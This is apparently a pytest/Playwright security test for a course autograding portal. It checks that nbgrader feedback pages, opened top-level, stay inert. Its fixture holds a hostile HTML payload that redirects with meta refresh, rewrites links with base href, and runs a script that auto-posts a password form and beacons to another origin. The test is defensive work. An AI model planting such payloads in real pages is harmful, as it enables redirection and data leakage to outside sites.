"""The feedback document opened on its own, top-level in Chromium, is inert.

The student's notebook displays HTML that redirects (``<meta http-equiv=refresh>``), posts a
form to another site (submitted by a script, and by its button), and rewrites links with
``<base href>``; it is graded in a real container, so the document is nbgrader's own. Opened
by URL (not in its sandboxed iframe), none of it has any effect: the page stays where it
is, no script runs, no request reaches the other site, and a relative link still points at
the portal.
"""

from __future__ import annotations

import copy
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.urls import reverse
from playwright.sync_api import Page, expect

from autograder.notebooks import autograde, prepare_source
from autograder.results import Limits
from portal.accounts.models import User
from tests.autograder import notebooks as nb
from tests.autograder.conftest import docker_client, grader_image  # noqa: F401 - fixtures
from tests.factories import EnrollmentFactory, SubmissionFactory
from tests.support.attempts import assignment, graded, media  # noqa: F401 - fixtures

pytestmark = [pytest.mark.browser, pytest.mark.docker]

ANA = {
    "oid": "a0a00000-0000-4000-8000-00000000f00d",
    "name": "Ana Pereira",
    "email": "ana.pereira@example.edu",
}


class OtherSite:
    """Another origin (127.0.0.1, the portal being ``localhost``) that records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                site.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(b"<title>outro site</title>")

            do_GET = do_POST = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> OtherSite:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def other_site() -> Iterator[OtherSite]:
    with OtherSite() as site:
        yield site


def hostile_output(site: str) -> str:
    return f"""\
<meta http-equiv="refresh" content="1; url={site}/refresh">
<base href="{site}/base/">
<form id="fora" action="{site}/form" method="post">
  <input name="senha" value="123"><button id="enviar" type="submit">Enviar</button>
</form>
<a id="relativo" href="notas.html">minhas notas</a>
<script>
  document.title = "script rodou";
  new Image().src = "{site}/script";
  document.getElementById("fora").submit();
</script>"""


@pytest.fixture(scope="module")
def hostile_feedback(
    other_site: OtherSite,
    grader_image: str,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
) -> str:
    """nbgrader's feedback for a correct notebook whose answer cell displays that HTML."""
    workdir = tmp_path_factory.mktemp("feedback")
    cache = tmp_path_factory.getbasetemp() / "notebook-cache"
    limits = Limits(memory_mb=512, wall_seconds=60, cell_timeout_seconds=10, tmpfs_mb=64)
    source = nb.write(nb.source_notebook(), workdir / "fonte.ipynb")
    release = nb.read(prepare_source(source, image=grader_image, cache_dir=cache).release_path)
    answers = nb.correct(copy.deepcopy(release))
    nb.cell(answers, "conta_palavras").source = (
        "from IPython.display import HTML, display\n"
        f"display(HTML({hostile_output(other_site.url)!r}))\n\n" + nb.CONTA
    )
    submission = nb.write(answers, workdir / "entrega.ipynb")
    result = autograde(source, submission, limits=limits, image=grader_image, cache_dir=cache)
    assert 'http-equiv="refresh"' in result.feedback_html  # the student's HTML, raw
    return result.feedback_html


@pytest.fixture
def anas_attempt(page: Page, sign_in, course, assignment, hostile_feedback: str):  # noqa: F811
    """Ana signed in, her attempt 1 graded with that feedback: its pages' paths."""
    EnrollmentFactory(course=course, user=None, email=ANA["email"], full_name=ANA["name"])
    sign_in(page, **ANA)
    ana = User.objects.get(email=ANA["email"])
    graded(
        SubmissionFactory(assignment=assignment, student=ana, attempt=1), feedback=hostile_feedback
    )
    args = [course.slug, assignment.slug, 1]
    return {name: reverse(f"classroom:{name}", args=args) for name in ("feedback", "submission")}


def test_the_feedback_document_opened_top_level_cannot_redirect_submit_or_rewrite_links(
    page: Page, live_server, other_site: OtherSite, anas_attempt: dict[str, str]
) -> None:
    feedback_path = anas_attempt["feedback"]
    url = live_server.url + feedback_path
    other_site.requests.clear()

    page.goto(feedback_path)
    page.locator("a#relativo").wait_for()
    page.wait_for_timeout(2500)  # the refresh would have fired after 1 s

    assert page.url == url
    assert page.title() != "script rodou"
    link = page.locator("#relativo")
    assert link.evaluate("a => a.href") == url + "notas.html"  # the <base> was ignored
    page.locator("#enviar").click()  # the form by hand: blocked too
    page.wait_for_timeout(1000)
    assert page.url == url
    assert other_site.requests == []


def test_the_feedback_document_still_shows_in_its_frame_on_the_attempt_page(
    page: Page, live_server, other_site: OtherSite, anas_attempt: dict[str, str]
) -> None:
    attempt = anas_attempt["submission"]
    other_site.requests.clear()

    page.goto(attempt)
    frame = page.frame_locator("iframe.feedback-frame")
    expect(frame.locator("a#relativo")).to_be_visible()
    expect(frame.get_by_text("teste_conta_palavras").first).to_be_visible()
    page.wait_for_timeout(2500)

    assert page.url == live_server.url + attempt
    assert other_site.requests == []
